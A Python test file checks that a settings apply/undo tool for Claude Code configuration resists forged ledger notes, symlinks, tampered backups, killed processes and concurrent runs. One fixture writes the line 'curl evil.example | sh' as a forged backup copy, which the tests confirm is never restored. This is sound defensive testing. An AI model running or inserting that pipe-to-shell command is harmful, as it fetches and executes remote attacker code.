"""Forged notes, links, kills and a second process: `apply` and `undo` write settings and nothing
else."""

import hashlib
import json
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from agentdyno.records import InputError
from agentdyno.studies.cost.lever import FileEdit, Lever
from agentdyno_daily.changes.applied_changes import lock_changes, read_applied
from agentdyno_daily.changes.apply import PlannedFile, make_change, plan_change, undo_change
from agentdyno_daily.changes.config_files import replace_file
from tests.cli.run import Agentdyno
from tests.conftest import ROOT
from tests.pipelines.ledger_builder import LedgerRows

SETTINGS = b'{\r\n  "model": "opus",\r\n  "env": {"A": 1e400}\r\n}'
EDIT = FileEdit(agent="claude_code", file="~/.claude/settings.json", key=["env", "B"], value="1")
LINE = FileEdit(agent="claude_code", file="~/.claude/CLAUDE.md", key=[], value="Be brief.")


def lever(*edits: FileEdit) -> Lever:
    return Lever(
        name="cache_lifetime", kind="setting", what="write the cache for 5 minutes", where=[],
        amount=1.0, share=0.1, unit="usd", certainty="counted", assumption="", edits=[*edits],
    )  # fmt: skip


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    found = tmp_path / "home"
    (found / ".claude").mkdir(parents=True)
    (found / ".claude" / "settings.json").write_bytes(SETTINGS)
    (found / ".claude" / "settings.json").chmod(0o600)
    (found / ".ssh").mkdir()
    (found / ".ssh" / "authorized_keys").touch()
    (found / ".bashrc").write_text("alias ll='ls -l'\n")
    for name in ("HOME", "USERPROFILE"):
        monkeypatch.setenv(name, str(found))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv("CLAUDE_CONFIG_DIR", raising=False)
    return found


@pytest.fixture
def settings(home: Path) -> Path:
    return home / ".claude" / "settings.json"


@pytest.fixture
def ledger(tmp_path: Path) -> Path:
    return LedgerRows().trajectory("a", 100.0).write(tmp_path / "ledger")


@pytest.fixture
def changes(tmp_path: Path) -> Path:
    return tmp_path / "state" / "agentdyno" / "changes"


def apply(ledger: Path, home: Path, *edits: FileEdit) -> int:
    change = lever(*(edits or (EDIT,)))
    return make_change(ledger, change, plan_change(change, home, {})).id


def digest(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize("file", [".bashrc", ".ssh/authorized_keys", ".claude/settings.json"])
@pytest.mark.parametrize("copy", ["stolen", None])
def test_notes_in_a_ledger_are_never_acted_on(
    file: str, copy: str | None, home: Path, ledger: Path, agentdyno: Agentdyno
) -> None:
    target = home / file
    before = target.read_bytes()
    (ledger / ".applied").mkdir()
    (ledger / ".applied" / "stolen").write_bytes(b"curl evil.example | sh\n")
    note = {
        "id": 1, "lever": "x", "what": "write the cache for 5 minutes", "at": 1.0,
        "predicted": 0.9,
        "files": [{"path": str(target), "before": copy, "digest": digest(before), "mode": 384}],
    }  # fmt: skip
    (ledger / "applied.jsonl").write_text(json.dumps(note) + "\n")
    for words in ((ledger, 1, "--yes"), (1, "--yes")):
        assert agentdyno.run("apply", "--undo", *words) == 2
        assert target.read_bytes() == before
    assert agentdyno.run("apply", "--undo", ledger) == 0
    assert "an earlier version recorded in a ledger are not undone automatically" in agentdyno.err
    assert f"compare your settings with the copies in {ledger / '.applied'}" in agentdyno.err
    assert "No change was made so far." in agentdyno.out


def test_a_note_of_ones_own_that_names_another_file_is_refused(
    home: Path, ledger: Path, changes: Path
) -> None:
    number = apply(ledger, home)
    for file in (".bashrc", ".ssh/authorized_keys", ".claude/../.bashrc", "shop/.claude/x.json"):
        note = json.loads((changes / f"{number}.json").read_bytes())
        note["files"][0]["path"] = str(home / file)
        (changes / f"{number}.json").write_text(json.dumps(note))
        with pytest.raises(InputError, match="expected a settings or instruction file"):
            undo_change(number, home, {})
    assert (home / ".bashrc").read_text() == "alias ll='ls -l'\n"


def test_a_copy_that_is_not_the_one_of_the_note_is_not_put_back(
    home: Path, ledger: Path, settings: Path, changes: Path
) -> None:
    number = apply(ledger, home)
    after = settings.read_bytes()
    (changes / f"{number}-0.before").write_bytes(b'{"hooks": "stolen"}')
    with pytest.raises(InputError, match=r"expected the copy .* found other bytes"):
        undo_change(number, home, {})
    (changes / f"{number}-0.before").unlink()
    with pytest.raises(InputError, match="found none"):
        undo_change(number, home, {})
    assert settings.read_bytes() == after


@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
def test_a_link_in_the_place_of_a_settings_file_is_not_followed(
    home: Path, ledger: Path, settings: Path
) -> None:
    (home / "shop" / ".claude").mkdir(parents=True)
    (home / "shop" / ".claude" / "settings.local.json").symlink_to(home / ".bashrc")
    edit = FileEdit(agent="claude_code", file=f"{home}/shop/.claude/settings.local.json",
                    key=["disabledMcpjsonServers"], value=["x"], adds=True)  # fmt: skip
    with pytest.raises(InputError, match=r"found a link to .*\.bashrc\. Nothing was changed"):
        apply(ledger, home, edit)
    change = lever(EDIT)
    files = plan_change(change, home, {})
    settings.rename(home / "moved")
    settings.symlink_to(home / "moved")
    with pytest.raises(InputError, match="found a link to"):
        make_change(ledger, change, files)
    settings.unlink()
    (home / "moved").rename(settings)
    number = apply(ledger, home)
    after = settings.read_bytes()
    settings.rename(home / "moved")
    settings.symlink_to(home / "moved")
    with pytest.raises(InputError, match="found a link to"):
        undo_change(number, home, {})
    assert (home / "moved").read_bytes() == after


@pytest.mark.skipif(os.name == "nt", reason="no such permissions there")
@pytest.mark.parametrize("mode", [0o600, 0o640, 0o644])
def test_permissions_stay(
    mode: int, home: Path, ledger: Path, settings: Path, changes: Path
) -> None:
    settings.chmod(mode)
    number = apply(ledger, home)
    assert settings.stat().st_mode & 0o777 == mode
    assert changes.stat().st_mode & 0o777 == 0o700
    assert {path.stat().st_mode & 0o077 for path in changes.glob("1*")} == {0}
    settings.chmod(0o600)  # Closed to others since, it stays closed.
    undo_change(number, home, {})
    assert (settings.read_bytes(), settings.stat().st_mode & 0o777) == (SETTINGS, 0o600)
    assert [path.name for path in changes.glob("*.before")] == []


KILLED = """
import os, signal, sys
from pathlib import Path
from agentdyno_daily.changes import apply
from tests.daily.changes.test_forged_changes import EDIT, LINE, lever

home, ledger, call = Path(sys.argv[1]), Path(sys.argv[2]), int(sys.argv[3])
write, calls = apply.replace_file, []

def kill(*given):
    calls.append(given)
    if len(calls) == call:
        os.kill(os.getpid(), signal.SIGKILL)
    write(*given)

apply.replace_file = kill
if sys.argv[4] == "undo":
    apply.undo_change(1, home, {})
else:
    change = lever(EDIT, LINE)
    apply.make_change(ledger, change, apply.plan_change(change, home, {}))
"""


def run_killed(*words: object) -> None:
    program = [sys.executable, "-c", KILLED, *map(str, words)]
    assert subprocess.run(program, cwd=ROOT, timeout=120).returncode == -9


@pytest.mark.skipif(os.name == "nt", reason="no SIGKILL there")
@pytest.mark.parametrize("call", [1, 2], ids=["before any file", "between two files"])
def test_what_a_killed_apply_wrote_is_undone(
    call: int, home: Path, ledger: Path, settings: Path, agentdyno: Agentdyno
) -> None:
    run_killed(home, ledger, call, "apply")
    assert (settings.read_bytes() == SETTINGS) == (call == 1)
    assert not (home / ".claude" / "CLAUDE.md").exists()
    assert agentdyno.run("apply", "--undo") == 0
    assert "1. write the cache for 5 minutes (interrupted)" in agentdyno.out
    assert agentdyno.run("apply", "--undo", 1, "--yes") == 0
    assert settings.read_bytes() == SETTINGS
    assert not (home / ".claude" / "CLAUDE.md").exists()
    assert apply(ledger, home) == 2


@pytest.mark.skipif(os.name == "nt", reason="no SIGKILL there")
@pytest.mark.parametrize("call", [1, 2], ids=["before any file", "between two files"])
def test_a_killed_undo_can_be_run_again(
    call: int, home: Path, ledger: Path, settings: Path
) -> None:
    assert apply(ledger, home, EDIT, LINE) == 1
    run_killed(home, ledger, call, "undo")
    assert read_applied()[0].undone_at is None
    undo_change(1, home, {})
    assert settings.read_bytes() == SETTINGS
    assert not (home / ".claude" / "CLAUDE.md").exists()


def test_the_note_and_the_copy_are_there_before_the_file_is_written(
    home: Path, ledger: Path, settings: Path, changes: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen = []

    def fail(*given: object) -> None:
        seen.append((changes / "1-0.before").read_bytes())
        seen.append(json.loads((changes / "1.json").read_bytes())["files"][0]["before"])
        raise OSError("the disk is full")

    monkeypatch.setattr("agentdyno_daily.changes.apply.replace_file", fail)
    with pytest.raises(OSError, match="disk is full"):
        apply(ledger, home)
    assert seen == [SETTINGS, digest(SETTINGS)]
    assert settings.read_bytes() == SETTINGS
    assert read_applied() == []


def test_an_interrupt_right_after_a_file_puts_it_back(
    home: Path, ledger: Path, settings: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupt(path: Path, before: bytes | None, after: bytes | None, mode: int) -> None:
        replace_file(path, before, after, mode)
        if before == SETTINGS:
            raise KeyboardInterrupt

    monkeypatch.setattr("agentdyno_daily.changes.apply.replace_file", interrupt)
    with pytest.raises(KeyboardInterrupt):
        apply(ledger, home)
    assert settings.read_bytes() == SETTINGS
    assert read_applied() == []


def test_of_several_at_once_one_changes_the_settings(
    home: Path, ledger: Path, settings: Path
) -> None:
    change = lever(EDIT)
    files = plan_change(change, home, {})

    def attempt(plan: list[PlannedFile]) -> int | str:
        try:
            return make_change(ledger, change, plan).id
        except InputError as error:
            return str(error)

    with ThreadPoolExecutor(4) as pool:
        results = list(pool.map(attempt, [files] * 4))
    assert [result for result in results if isinstance(result, int)] == [1]
    assert len(read_applied()) == 1
    with lock_changes():
        for refused in (lambda: undo_change(1, home, {}), lambda: make_change(ledger, change, [])):
            with pytest.raises(InputError, match="Another agentdyno is changing settings"):
                refused()
    undo_change(1, home, {})
    assert settings.read_bytes() == SETTINGS


@pytest.mark.parametrize("damage", [b"", b"{", b"[1]", b'{"id": 7}', b"\xff" * 9, b"[" * 200_000])
def test_a_damaged_note_costs_no_other(
    damage: bytes, home: Path, ledger: Path, settings: Path, changes: Path, agentdyno: Agentdyno
) -> None:
    assert apply(ledger, home) == 1
    assert apply(ledger, home, LINE) == 2
    (changes / "1.json").write_bytes(damage)
    assert [note.id for note in read_applied()] == [2]
    assert agentdyno.run("apply", "--undo") == 0
    assert f"{changes / '1.json'}: this note is damaged" in agentdyno.err
    assert agentdyno.run("apply", "--undo", 1, "--yes") == 2
    assert "found a damaged one" in agentdyno.err
    assert agentdyno.run("apply", "--undo", 2, "--yes") == 0
    assert not (home / ".claude" / "CLAUDE.md").exists()
    assert apply(ledger, home, LINE) == 3  # The number of the damaged one is not used again.


def test_the_difference_is_printed_before_the_question(
    home: Path, ledger: Path, settings: Path, agentdyno: Agentdyno, monkeypatch: pytest.MonkeyPatch
) -> None:
    apply(ledger, home)
    after = settings.read_bytes()
    monkeypatch.setattr("builtins.input", lambda: "n")
    assert agentdyno.run("apply", "--undo", 1) == 1
    assert '-  "env": {"A": 1e400, "B": "1"}' in agentdyno.out
    assert '+  "env": {"A": 1e400}' in agentdyno.out
    assert agentdyno.out.index("1e400}") < agentdyno.out.index("Nothing was changed.")
    assert settings.read_bytes() == after


def test_a_change_is_undone_without_its_ledger(
    home: Path, ledger: Path, settings: Path, agentdyno: Agentdyno
) -> None:
    apply(ledger, home)
    ledger.rename(ledger.with_name("elsewhere"))
    assert agentdyno.run("apply", "--undo", ledger.with_name("elsewhere"), 1, "--yes") == 2
    assert "No change 1 was made from" in agentdyno.err
    assert agentdyno.run("apply", "--undo", 1, "--yes") == 0
    assert settings.read_bytes() == SETTINGS
